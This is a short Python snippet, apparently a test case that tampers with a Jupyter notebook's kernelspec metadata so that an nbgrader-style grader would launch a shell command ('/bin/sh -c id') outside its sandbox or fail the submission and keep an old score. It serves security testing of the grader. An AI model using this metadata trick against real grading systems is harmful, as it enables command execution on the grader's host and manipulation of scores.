"""Asks for another kernel, whose command would be the attacker's, and for other languages.

Would run a command outside of the sandbox, or make the submission fail and keep an old score.

Plain nbgrader: nothing.
"""


def attack(notebook):
    notebook.metadata["kernelspec"] = {"name": "bash", "display_name": "Bash", "argv": ["/bin/sh", "-c", "id"]}
    notebook.metadata["language_info"] = {"name": "bash"}
    return notebook
